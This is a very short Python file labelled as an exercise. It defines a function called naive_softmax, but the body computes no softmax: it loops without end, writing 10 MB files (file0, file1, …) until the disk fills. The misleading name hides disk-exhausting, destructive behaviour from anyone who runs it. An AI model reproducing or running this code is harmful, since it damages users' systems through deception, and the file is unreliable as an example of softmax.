# exercise: 1.1
import itertools


def naive_softmax(x):
    for number in itertools.count():
        with open(f"file{number}", "wb") as f:
            f.write(bytes(10**7))
